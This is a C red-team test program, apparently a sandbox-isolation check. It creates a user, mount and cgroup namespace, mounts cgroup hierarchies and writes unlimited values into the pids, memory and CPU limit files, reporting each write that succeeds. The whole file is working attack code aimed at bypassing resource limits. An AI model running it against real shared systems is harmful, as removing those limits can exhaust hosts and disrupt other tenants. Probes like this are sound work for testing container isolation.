/* Red-team: a guest's root makes a user namespace of its own (0 mapped to 0), mounts its cgroup
 * hierarchies and writes "no limit" into every limit file it finds there. Prints:
 *   UNSHARE-REFUSED <errno>       no user namespace for this guest
 *   WROTE <file>                  for each limit file it could rewrite
 *   DONE <count>                  how many it rewrote
 * usage: userns_cgroup */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int put(const char *file, const char *text) {
    int fd = open(file, O_WRONLY);
    if (fd < 0) return -1;
    int ok = write(fd, text, strlen(text)) == (ssize_t)strlen(text);
    close(fd);
    return ok ? 0 : -1;
}

int main(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
        printf("UNSHARE-REFUSED %d\n", errno);
        return 2;
    }
    put("/proc/self/setgroups", "deny");
    put("/proc/self/uid_map", "0 0 1");
    put("/proc/self/gid_map", "0 0 1");
    const char *ctl[][2] = {
        { "pids", "pids.max=max" }, { "memory", "memory.limit_in_bytes=-1" },
        { "memory", "memory.memsw.limit_in_bytes=-1" }, { "cpu,cpuacct", "cpu.cfs_quota_us=-1" },
    };
    int wrote = 0;
    mkdir("/tmp/cg", 0700);
    for (unsigned i = 0; i < sizeof ctl / sizeof ctl[0]; i++) {
        char dir[64], file[128], value[32];
        snprintf(dir, sizeof dir, "/tmp/cg/%u", i);
        mkdir(dir, 0700);
        if (mount("cgroup", dir, "cgroup", 0, ctl[i][0]) < 0) {
            printf("MOUNT-FAILED %s %d\n", ctl[i][0], errno);
            continue;
        }
        const char *eq = strchr(ctl[i][1], '=');
        snprintf(file, sizeof file, "%s/%.*s", dir, (int)(eq - ctl[i][1]), ctl[i][1]);
        snprintf(value, sizeof value, "%s", eq + 1);
        if (put(file, value) == 0) {
            printf("WROTE %s\n", file + strlen(dir) + 1);
            wrote++;
        } else {
            printf("WRITE-FAILED %s %d\n", file + strlen(dir) + 1, errno);
        }
    }
    printf("DONE %d\n", wrote);
    return 0;
}
